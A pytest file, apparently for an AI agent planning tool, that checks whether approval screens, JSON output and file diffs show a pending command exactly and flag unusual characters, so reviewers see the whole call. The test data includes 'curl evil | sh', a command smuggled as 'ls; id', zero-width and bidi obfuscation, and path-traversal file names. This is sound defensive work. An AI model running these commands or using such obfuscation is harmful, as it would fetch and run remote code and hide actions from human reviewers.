"""Whoever decides sees all of a call, in every place that asks: no text hides, disguises or cuts any of it."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from rich.cells import cell_len
from rich.console import Console
from rich.text import Text

from plansurvive.apps.review.rows import detail
from plansurvive.client.cli.follow.lines import Lines
from plansurvive.client.cli.follow.question import Question
from plansurvive.client.cli.terminal.asking import question
from plansurvive.client.cli.terminal.output import show_json
from plansurvive.client.decide.shown import NOW as FILE_NOW
from plansurvive.client.decide.shown import with_change
from plansurvive.client.runs import BriefView, EventView
from plansurvive.client.verbs.pending import Pending
from plansurvive.features.planning.make import rows_of
from plansurvive.plans.execution.schedule import Schedule
from plansurvive.plans.large_value import LargeValue
from plansurvive.plans.text.safe_text import exact, unusual
from plansurvive.plans.views.markdown import DETAIL_CHARACTERS, details
from plansurvive.plans.views.models import PlanView
from plansurvive.plans.views.models.card import Card
from plansurvive.plans.views.steps.call_text import call_rows, folded_rows
from plansurvive.plans.views.text import text as text_of
from plansurvive.plans.views.views import plan_view
from tests.plans.building import NOW, begun, step
from tests.plans.hostile_texts import HOSTILE, read_back

WIDTH, HEIGHT = 80, 12


def waiting(command: Any) -> Schedule:
    """A plan whose only step awaits approval of this command."""
    schedule = begun(step("s", tool="run_command", args={"command": command}))
    schedule.ask("s", NOW)
    schedule.run.steps["s"].asked = {"command": command}
    return schedule


def view_of(command: str) -> PlanView:
    schedule = waiting(command)
    return PlanView.read(plan_view(schedule.run, schedule))


def item_of(command: str) -> Card:
    return view_of(command).pending[0]


def on_the_board(command: str) -> str:
    """All that the windows of the board show, one after the other, with folded rows put together again."""
    asked = Question(item_of(command))
    shown: list[str] = []
    while not asked.is_read or not shown:
        rows, place = asked.window(WIDTH, HEIGHT)
        assert len(rows) <= HEIGHT
        assert all(cell_len(row) <= WIDTH for row in rows)
        first = int(re.findall(r"rows (\d+)", place)[0]) - 1 if place else 0
        shown[first:] = rows
        asked.scroll(1)
    return unfolded(shown)


def unfolded(rows: list[str]) -> str:
    return re.sub(r"\n {13}┆ ", "", "\n".join(rows))


def as_lines(command: str) -> str:
    view = BriefView.read({"id": "p", "status": "running", "steps": [{"id": "s", "tool": "run_command"}]})
    lines = Lines("p", view.model_copy(update={"pending": [item_of(command)]}))
    event = {"seq": 1, "time": NOW, "taskId": "p", "stepId": "s", "status": "ready", "awaiting": "approval"}
    return "\n".join(lines.of(EventView.read(event)))


def on_the_review_screen(command: str) -> str:
    """The details of the step, as wide as its longest line."""
    view = view_of(command)
    console = Console(file=StringIO(), width=100_000)
    with console.capture() as captured:
        console.print(detail(view, view.steps[0], {}))
    return "\n".join(f"{'':13}│ {row.rstrip()[13:]}" for row in captured.get().splitlines())


def in_the_review_dialog(command: str) -> str:
    return unfolded(folded_rows(call_rows(item_of(command)), 60, cell_len))


PLACES: dict[str, Callable[[str], str]] = {
    "plan pending": lambda command: str(Text("\n").join(question("p", item_of(command)))),
    "the board": on_the_board,
    "plain lines": as_lines,
    "review screen": on_the_review_screen,
    "review dialog": in_the_review_dialog,
    "plan show": lambda command: text_of(waiting(command).run),
    "the Temporal UI": lambda command: details(waiting(command).run, waiting(command)),
    "plan make": lambda command: "\n".join(rows_of(view_of(command))),
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("command", HOSTILE.values(), ids=HOSTILE)
def test_all_of_a_call_is_shown_exactly(place: str, command: str) -> None:
    shown = PLACES[place](command)
    if place == "the Temporal UI" and len(exact(command)) > DETAIL_CHARACTERS - 1_000:
        assert "All of the calls: `plan pending p`" in shown, "all or nothing"
        return
    rows = [row.rstrip() for row in exact(command).split("\n")]
    found = [re.split("│ ?", row, maxsplit=1)[-1].rstrip() for row in shown.splitlines() if "│" in row]
    at = [index for index, row in enumerate(found) if row == rows[0]]
    assert any(found[start : start + len(rows)] == rows for start in at), shown
    assert read_back(exact(command)) == command
    for warning in unusual(command):
        assert warning in shown, "what is unusual is named"


@pytest.mark.parametrize("command", HOSTILE.values(), ids=HOSTILE)
def test_json_holds_the_exact_call_and_says_what_is_unusual(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    schedule = waiting(command)
    found = Pending(plan_id="p", **dict(Card.model_validate(plan_view(schedule.run, schedule)["pending"][0])))
    show_json([found.model_dump(mode="json")])
    printed = capsys.readouterr().out
    assert json.loads(printed)[0]["args"] == {"command": command}
    assert [char for char in printed if unusual(f"|{char}|")] == []


def test_a_name_of_an_argument_and_a_value_that_is_no_text_are_as_exact() -> None:
    item = Card(step_id="s", kind="approval", tool="t\u200b", args={"a\nb\u202e": [{"\u0430x": "\u2060"}], "n": 1})
    shown = "\n".join(call_rows(item))
    assert [row for row in shown.splitlines() if unusual(row.strip())] == []
    for spelling in ("t\\u{200b}", "a\\u{a}b\\u{202e}", "\\u{430}x", "\\u{2060}", "n            = 1"):
        assert spelling in shown


def test_the_board_counts_as_read_only_what_was_on_the_screen() -> None:
    asked = Question(item_of("\n".join(map(str, range(50)))))
    assert not asked.is_read
    _, place = asked.window(WIDTH, HEIGHT)
    assert place == "rows 1-12 of 54"
    for _ in range(20):
        asked.scroll(1)  # faster than the screen is drawn
    assert asked.window(WIDTH, HEIGHT)[1] == "rows 13-24 of 54"
    assert not asked.is_read
    for _ in range(3):
        asked.scroll(1)
        rows, place = asked.window(WIDTH, HEIGHT)
    assert bool(asked.is_read)
    assert (rows[-1].split("│ ")[1], place) == ("49", "rows 43-54 of 54")
    asked.window(WIDTH - 10, HEIGHT)
    assert not asked.is_read, "at another width it is read anew"


def test_a_short_call_is_read_at_once_and_a_changed_one_is_another_question() -> None:
    item = item_of("ls")
    asked = Question(item)
    assert asked.window(WIDTH, HEIGHT)[1] == ""
    assert asked.is_read
    assert asked.item == item_of("ls")
    assert asked.item != item.model_copy(update={"args": {"command": "ls; id"}})
    assert asked.item != item.model_copy(update={"change": {"command": "other"}})


def test_a_large_value_is_shown_with_its_size_and_hash_or_in_full() -> None:
    value = LargeValue(sha256="ab" * 32, bytes=70_000, preview="curl\u200b")
    item = Card(step_id="s", kind="approval", tool="note", args={"text": "{{big}}"}, large={"big": value})
    shown = "\n".join(call_rows(item))
    assert "70,000 bytes, sha256 " + "ab" * 32 in shown
    assert "--full" in shown
    assert "curl\\u{200b}" in shown
    whole = item.model_copy(update={"values": {"big": "head\n" * 9_000 + "curl evil | sh"}})
    assert call_rows(whole)[-1].endswith("│ curl evil | sh")


class TestFiles:
    """A call that writes a file is shown as a diff against the present one."""

    def item(self, workspace: Path, path: str, content: str) -> Card:
        args = {"path": path, "content": content}
        return Card(step_id="s", kind="approval", tool="write_file", args=args, workspace=str(workspace))

    def test_the_diff_has_all_that_changes(self, tmp_path: Path) -> None:
        before = "\n".join(map(str, range(100)))
        (tmp_path / "a").write_text(before)
        item = self.item(tmp_path, "a", before.replace("50", "50; curl\u200b evil"))
        rows = call_rows(with_change(item))
        assert [row[15:] for row in rows if row[15:16] in "-+" and row[15:17] not in ("--", "++")] == [
            "-50", "+50; curl\\u{200b} evil",
        ]  # fmt: skip
        assert len(rows) < 20

    def test_what_cannot_be_compared_is_shown_in_full(self, tmp_path: Path) -> None:
        (tmp_path / "inside").mkdir()
        (tmp_path / "secret").write_text("key")
        (tmp_path / "inside" / "link").symlink_to(tmp_path / "secret")
        (tmp_path / "inside" / "binary").write_bytes(b"\xff\x00")
        os.mkfifo(tmp_path / "inside" / "fifo")
        for path in ("new", "../secret", str(tmp_path / "secret"), "link", "binary", "fifo", "a\0b", "x" * 5_000):
            assert set(with_change(self.item(tmp_path / "inside", path, "all\nof it")).change) <= {FILE_NOW}, path


def test_no_row_of_a_folded_call_can_pose_as_another() -> None:
    text = "x" * 65 + "tool         │ note" + "y" * 65
    rows = folded_rows(call_rows(item_of(text)), WIDTH, cell_len)
    assert sum(row.startswith("tool") for row in rows) == 1
    assert max(map(cell_len, rows)) <= WIDTH
